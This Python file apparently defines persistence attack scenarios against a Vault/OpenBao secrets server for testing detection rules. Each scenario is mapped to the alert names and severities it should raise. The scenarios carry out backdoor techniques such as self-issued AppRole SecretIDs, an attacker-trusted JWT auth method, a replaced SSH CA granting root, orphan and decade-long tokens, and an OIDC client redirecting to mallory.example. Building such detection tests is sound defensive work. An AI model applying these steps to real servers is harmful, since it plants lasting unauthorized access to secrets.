"""TA0003, persistence: a way back in."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

from attack import CRITICAL, HIGH, LOW, MEDIUM, OF_HCP, OF_THE_SERVER, Attack
from company import Company
from stage import ADMIN, ROOT, Stage, rights

ROLES = "auth/approle/role"


def secret_id_of_ones_own(stage: Stage) -> Iterator[None]:
    application = stage.application(rights(f"{ROLES}/*"))
    thief = stage.caller()
    stage.log_in(thief, application)
    yield
    made = thief.write(f"{ROLES}/{application.role}/secret-id")["data"]["secret_id"]
    stage.log_in(thief, replace(application, secret_id=made))


def secret_id_that_mallory_knows(stage: Stage) -> Iterator[None]:
    application = stage.application(rights(f"{ROLES}/*"))
    thief = stage.caller()
    stage.log_in(thief, application)
    yield
    thief.write(f"{ROLES}/{application.role}/custom-secret-id", secret_id="what mallory chose")


def endless_secret_id(stage: Stage) -> Iterator[None]:
    application = stage.application(rights("secret/*"), secret_id_ttl="0s")
    mallory = stage.bearer(rights(f"{ROLES}/*"))
    yield
    mallory.write(f"{ROLES}/{application.role}/secret-id")


def role_without_networks(stage: Stage) -> Iterator[None]:
    application = stage.application(rights("secret/*"), secret_id_bound_cidrs=["127.0.0.0/8"])
    mallory = stage.bearer(rights(f"{ROLES}/*"))
    yield
    mallory.delete(f"{ROLES}/{application.role}/secret-id-bound-cidrs")


def role_id_is_enough(stage: Stage) -> Iterator[None]:
    application = stage.application(rights("secret/*"))
    mallory = stage.bearer(rights(f"{ROLES}/*"))
    yield
    bounds = {"bind_secret_id": False, "token_bound_cidrs": ["127.0.0.0/8"]}
    mallory.write(f"{ROLES}/{application.role}", **bounds)
    stage.caller().log_in("auth/approle/login", role_id=application.role_id)


def role_id_is_enough_as_text(stage: Stage) -> Iterator[None]:
    """The command line sends `false` as text, which is an HMAC in the log."""
    application = stage.application(rights("secret/*"))
    mallory = stage.bearer(rights(f"{ROLES}/*"))
    yield
    bounds = {"bind_secret_id": "false", "token_bound_cidrs": "127.0.0.0/8"}
    mallory.write(f"{ROLES}/{application.role}", **bounds)
    stage.caller().log_in("auth/approle/login", role_id=application.role_id)


def role_named_like_a_secret_id(stage: Stage) -> Iterator[None]:
    """Its path ends as if it were a SecretID of another role."""
    privileged = stage.policy(rights("*"))
    mallory = stage.bearer(rights(f"{ROLES}/*"))
    yield
    mallory.write(f"{ROLES}/{stage.new_name()}-secret-id", token_policies=[privileged])


def identity_provider_of_ones_own(stage: Stage) -> Iterator[None]:
    method = stage.new_name()
    provider = Company(stage.server.port, stage.database_port)
    mallory = stage.bearer(rights("sys/auth/*", "auth/*"))
    yield
    mallory.write(f"sys/auth/{method}", type="jwt")
    keys = {"jwt_validation_pubkeys": [provider.verification_key], "jwt_supported_algs": ["EdDSA"]}
    mallory.write(f"auth/{method}/config", **keys)
    role = {"role_type": "jwt", "user_claim": "sub", "bound_audiences": ["vault"]}
    mallory.write(f"auth/{method}/role/everybody", **role, token_policies=["default"])
    stage.caller().log_in(f"auth/{method}/login", role="everybody", jwt=provider.jwt("mallory"))


def database_elsewhere(stage: Stage) -> Iterator[None]:
    engine = stage.engine("database")
    config = {"plugin_name": "influxdb-database-plugin", "tls": False, "host": "127.0.0.1"}
    login = {"port": str(stage.database_port), "username": "vault", "password": "what the database knows"}
    stage.root.write(f"{engine}/config/orders", **config, **login)
    mallory = stage.bearer(rights(f"{engine}/*"))
    yield
    mallory.write(f"{engine}/config/orders", **config, **login | {"password": "what mallory knows"})
    mallory.write(f"{engine}/rotate-root/orders")


def two_admin_tokens(stage: Stage) -> Iterator[None]:
    admins = [stage.caller(stage.admin_token()) for _ in range(2)]
    yield
    for admin in admins:
        admin.get("auth/token/lookup-self")


def hidden_namespace(stage: Stage) -> Iterator[None]:
    mallory = stage.bearer(rights("sys/namespaces/*"))
    yield
    mallory.write(f"sys/namespaces/{stage.new_name()}")


def alias_moved(stage: Stage) -> Iterator[None]:
    """Mallory's next login counts as the administrator's."""
    name = stage.new_name()
    accessor = stage.root.get("sys/auth")["data"]["userpass/"]["accessor"]
    administrator, ordinary = (
        stage.root.write("identity/entity", name=stage.new_name())["data"]["id"] for _ in range(2)
    )
    stage.root.write("identity/entity-alias", name=name, canonical_id=ordinary, mount_accessor=accessor)
    mallory = stage.bearer(rights("identity/*"))
    yield
    mallory.write("identity/entity-alias", name=name, canonical_id=administrator, mount_accessor=accessor)


def user_of_ones_own(stage: Stage) -> Iterator[None]:
    user, password = stage.new_name(), "mallory comes back"
    mallory = stage.bearer(rights("auth/userpass/users/*"))
    yield
    mallory.write(f"auth/userpass/users/{user}", password=password, token_policies=["default"])
    stage.caller().log_in(f"auth/userpass/login/{user}", password=password)


def password_of_another(stage: Stage) -> Iterator[None]:
    user = stage.new_name()
    stage.root.write(f"auth/userpass/users/{user}", password="what alice chose", token_policies=["default"])
    mallory = stage.person(rights("auth/userpass/users/*"))
    yield
    mallory.write(f"auth/userpass/users/{user}/password", password="what mallory chose")


def periodic_orphan(stage: Stage) -> Iterator[None]:
    mallory = stage.bearer(rights("auth/token/*"))
    yield
    mallory.write("auth/token/create", policies=["default"], period="24h", no_parent=True)


def login_for_ten_years(stage: Stage) -> Iterator[None]:
    method, user, password = stage.auth_method("userpass"), stage.new_name(), "mallory stays for long"
    stage.root.write(f"sys/auth/{method}/tune", max_lease_ttl="87600h")
    lifetime = {"token_ttl": "87600h", "token_max_ttl": "87600h"}
    stage.root.write(f"auth/{method}/users/{user}", password=password, **lifetime)
    yield
    stage.caller().log_in(f"auth/{method}/login/{user}", password=password)


def orphan(stage: Stage) -> Iterator[None]:
    mallory = stage.bearer(rights("auth/token/*"))
    yield
    mallory.write("auth/token/create-orphan", policies=["default"], ttl="1h")


def orphan_as_text(stage: Stage) -> Iterator[None]:
    """OpenBao takes the text for what it says, and the log has an HMAC of it."""
    mallory = stage.bearer(rights("auth/token/*"))
    yield
    mallory.write("auth/token/create", policies=["default"], no_parent="true", ttl="1h")


def client_of_the_oidc_provider(stage: Stage) -> Iterator[None]:
    name = stage.new_name()
    mallory = stage.bearer(rights("identity/oidc/*"))
    yield
    mallory.write(f"identity/oidc/key/{name}", allowed_client_ids=["*"], algorithm="EdDSA")
    mallory.write(f"identity/oidc/assignment/{name}", entity_ids=["*"], group_ids=["*"])
    redirects = {"redirect_uris": ["https://mallory.example/callback"], "assignments": ["allow_all"]}
    mallory.write(f"identity/oidc/client/{name}", key=name, **redirects)
    mallory.write(f"identity/oidc/provider/{name}", allowed_client_ids=["*"])


def ssh_ca_of_ones_own(stage: Stage) -> Iterator[None]:
    engine = stage.engine("ssh")
    stage.root.write(f"{engine}/config/ca", generate_signing_key=True, key_type="ed25519", key_bits=0)
    mallory = stage.bearer(rights(f"{engine}/*"))
    key = Ed25519PrivateKey.generate()
    private = key.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption()).decode()
    public = key.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
    yield
    mallory.delete(f"{engine}/config/ca")
    mallory.write(f"{engine}/config/ca", generate_signing_key=False, private_key=private, public_key=public)
    role = {"key_type": "ca", "allow_user_certificates": True, "allowed_users": "*", "default_user": "root"}
    mallory.write(f"{engine}/roles/everybody", **role)
    mallory.write(f"{engine}/sign/everybody", public_key=public)


def token_role_for_more(stage: Stage) -> Iterator[None]:
    privileged, role = stage.policy(rights("*")), stage.new_name()
    mallory = stage.bearer(rights("auth/token/*"))
    yield
    mallory.write(f"auth/token/roles/{role}", allowed_policies=[privileged], orphan=True)
    mallory.write(f"auth/token/create/{role}", policies=[privileged])


def acme_account(stage: Stage) -> Iterator[None]:
    engine = stage.engine("pki")
    stage.root.write(f"{engine}/root/generate/internal", common_name="shop.example", key_type="ec")
    cluster = {"path": f"https://vault.shop.example/v1/{stage.namespace}{engine}"}
    stage.root.call("POST", f"{engine}/config/cluster", cluster)
    mallory = stage.bearer(rights(f"{engine}/*"))
    yield
    mallory.write(f"{engine}/config/acme", enabled=True)
    mallory.write(f"{engine}/acme/new-eab")


def plugin_of_ones_own(stage: Stage) -> Iterator[None]:
    """Refused, because the file is not there."""
    mallory = stage.bearer(rights("sys/plugins/*"))
    yield
    program = {"command": "mallory", "sha256": "0" * 64}
    mallory.write(f"sys/plugins/catalog/secret/{stage.new_name()}", status=(400, 500), **program)


def plugin_reloaded(stage: Stage) -> Iterator[None]:
    """As if another program had taken the place of the plugin."""
    engine = stage.secrets_of("payroll")
    mallory = stage.bearer(rights("sys/plugins/*"))
    yield
    mallory.write("sys/plugins/reload/backend", mounts=[f"{engine}/"])


def root_token_for_later(stage: Stage) -> Iterator[None]:
    thief = stage.caller(stage.server.root_token)
    yield
    thief.write("auth/token/create")


def root_token_unwrapped(stage: Stage) -> Iterator[None]:
    """The one who made it is not seen: that was before, and at another place."""
    wrapped = stage.root.call("POST", "auth/token/create", wrap_ttl="5m")["wrap_info"]["token"]
    thief = stage.caller(wrapped)
    yield
    thief.write("sys/wrapping/unwrap")


def engine_nobody_watches(stage: Stage) -> Iterator[None]:
    engine = stage.engine("kv")
    mallory = stage.bearer(rights("sys/mounts/*", "sys/remount"))
    yield
    mallory.write(f"sys/mounts/{stage.new_name()}", type="kv")
    mallory.write("sys/remount", **{"from": engine, "to": stage.new_name()})


def role_called_like_a_secret_id(stage: Stage) -> Iterator[None]:
    mallory = stage.bearer(rights(f"{ROLES}/*"))
    yield
    mallory.write(f"{ROLES}/{stage.new_name()}-secret-id", token_policies=["default"])


def superuser_of_a_database(stage: Stage) -> Iterator[None]:
    engine = stage.database()
    mallory = stage.bearer(rights(f"{engine}/roles/*", f"{engine}/creds/*"))
    statement = """CREATE USER "{{username}}" WITH PASSWORD '{{password}}' WITH ALL PRIVILEGES"""
    yield
    mallory.write(f"{engine}/roles/owner", db_name="shop", creation_statements=[statement])
    mallory.get(f"{engine}/creds/owner")


def role_of_a_database_deleted(stage: Stage) -> Iterator[None]:
    """Whoever needs its credentials gets none any more."""
    engine = stage.database()
    stage.root.write(f"{engine}/roles/orders", db_name="shop", creation_statements=["CREATE USER {{username}}"])
    mallory = stage.bearer(rights(f"{engine}/roles/*"))
    yield
    mallory.delete(f"{engine}/roles/orders")


def revoked_certificates_let_in(stage: Stage) -> Iterator[None]:
    method = stage.auth_method("cert")
    stage.root.write(f"auth/{method}/crls/offices", crl=_revocation_list())
    mallory = stage.bearer(rights(f"auth/{method}/crls/*"))
    yield
    mallory.delete(f"auth/{method}/crls/offices")


def _revocation_list() -> str:
    now = datetime.now(UTC)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "shop.example")])
    revoked = x509.RevokedCertificateBuilder().serial_number(7).revocation_date(now).build()
    builder = x509.CertificateRevocationListBuilder(name, now, now + timedelta(days=30), [], [revoked])
    return builder.sign(Ed25519PrivateKey.generate(), None).public_bytes(Encoding.PEM).decode()


ATTACKS = (
    Attack(
        secret_id_of_ones_own,
        "a thief of an application's token makes a SecretID, and logs in with it",
        {"approle_secretid_self_issue": HIGH, "approle_secretid_issued_then_used": CRITICAL},
    ),
    Attack(
        secret_id_that_mallory_knows,
        "a thief of an application's token chooses a SecretID for it",
        {"approle_secretid_self_issue": HIGH},
    ),
    Attack(endless_secret_id, "a SecretID is made that never ends", {"approle_secretid_self_issue": HIGH}),
    Attack(
        role_without_networks,
        "an AppRole loses the networks that it is bound to",
        {"approle_constraint_removed": HIGH, "auth_role_written": MEDIUM},
    ),
    Attack(
        role_id_is_enough,
        "an AppRole needs no SecretID any more, and somebody logs in without one",
        {"approle_constraint_removed": HIGH, "auth_role_written": MEDIUM},
    ),
    Attack(
        role_id_is_enough_as_text,
        "an AppRole is told by the command line that it needs no SecretID any more",
        {"approle_constraint_removed": HIGH, "auth_role_written": MEDIUM},
    ),
    Attack(
        role_named_like_a_secret_id,
        "an AppRole with all rights is made, whose name ends like the path of a SecretID",
        {"auth_role_written": MEDIUM},
    ),
    Attack(
        identity_provider_of_ones_own,
        "an auth method is enabled that trusts the attacker's keys, and used",
        {"auth_method_enabled_or_reconfigured": HIGH, "auth_role_written": MEDIUM, "oidc_login_role_changed": HIGH},
    ),
    Attack(
        database_elsewhere,
        "a database connection is changed, and its password rotated",
        {"database_config_or_root_rotated": HIGH},
    ),
    Attack(
        two_admin_tokens,
        "somebody makes a second admin token in HCP's portal",
        {"hcp_admin_token_minted": MEDIUM, "hcp_admin_tokens_several": HIGH},
        only_in=ADMIN,
        why=OF_HCP,
    ),
    Attack(
        hidden_namespace,
        "a namespace is created",
        {"hcp_child_namespace_created": LOW},
        only_in=ADMIN,
        why=OF_HCP,
    ),
    Attack(alias_moved, "a login is moved to an administrator's entity", {"identity_alias_write": HIGH}),
    Attack(
        user_of_ones_own,
        "a user is created, and logs in",
        {"local_user_created": HIGH, "auth_role_written": MEDIUM},
    ),
    Attack(password_of_another, "somebody gives another one a new password", {"local_user_created": HIGH}),
    Attack(
        periodic_orphan,
        "a token is made that can be renewed for ever, and has no parent",
        {"long_lived_or_periodic_token": HIGH, "orphan_token_created": MEDIUM},
    ),
    Attack(login_for_ten_years, "a login is good for ten years", {"long_lived_or_periodic_token": HIGH}),
    Attack(orphan, "a token without a parent is made", {"orphan_token_created": MEDIUM}),
    Attack(
        orphan_as_text,
        "a token without a parent is made by a call that says so in text",
        {"orphan_token_created": MEDIUM},
    ),
    Attack(
        client_of_the_oidc_provider,
        "OpenBao's OIDC provider gets a client of the attacker",
        {"oidc_provider_backdoor": HIGH},
    ),
    Attack(
        ssh_ca_of_ones_own,
        "the CA for SSH is replaced by one whose key the attacker has, and a role lets everybody in as root",
        {"ssh_ca_changed": HIGH},
    ),
    Attack(
        token_role_for_more,
        "a token role is written, and hands out a token with all rights",
        {"token_role_written": HIGH, "self_escalation_policy_then_use": CRITICAL},
    ),
    Attack(acme_account, "ACME is enabled, and an account allowed", {"pki_acme_or_eab_enabled": MEDIUM}),
    Attack(
        plugin_of_ones_own,
        "somebody tries to register a plugin",
        {"plugin_registered": CRITICAL},
        only_in=ROOT,
        why=OF_THE_SERVER,
    ),
    Attack(plugin_reloaded, "somebody lets a plugin be read again", {"plugin_registered": CRITICAL}),
    Attack(
        root_token_for_later,
        "a thief of a root token makes another one",
        {"root_token_used": CRITICAL, "root_token_minted": CRITICAL, "hcp_platform_root_out_of_profile": HIGH},
        only_in=ROOT,
        why="a token that is made in another namespace cannot have the policy root",
    ),
    Attack(
        root_token_unwrapped,
        "a root token is taken out of its wrapping",
        {"root_token_minted": CRITICAL, "wrapping_token_other_source": HIGH},
        only_in=ROOT,
        why="a token that is made in another namespace cannot have the policy root",
    ),
    Attack(
        engine_nobody_watches,
        "a secrets engine is enabled, and another moved",
        {"secrets_engine_enabled": LOW, "mount_moved": MEDIUM},
    ),
    Attack(
        role_called_like_a_secret_id,
        "an AppRole is made that is called like a credential",
        {"auth_role_written": MEDIUM},
    ),
    Attack(
        superuser_of_a_database,
        "a role of a database engine hands out superusers, and is used",
        {"credential_role_written": MEDIUM},
    ),
    Attack(role_of_a_database_deleted, "a role of a database engine is deleted", {"credential_role_written": MEDIUM}),
    Attack(
        revoked_certificates_let_in,
        "the revocation list of an auth method is deleted",
        {"auth_role_written": MEDIUM},
    ),
)
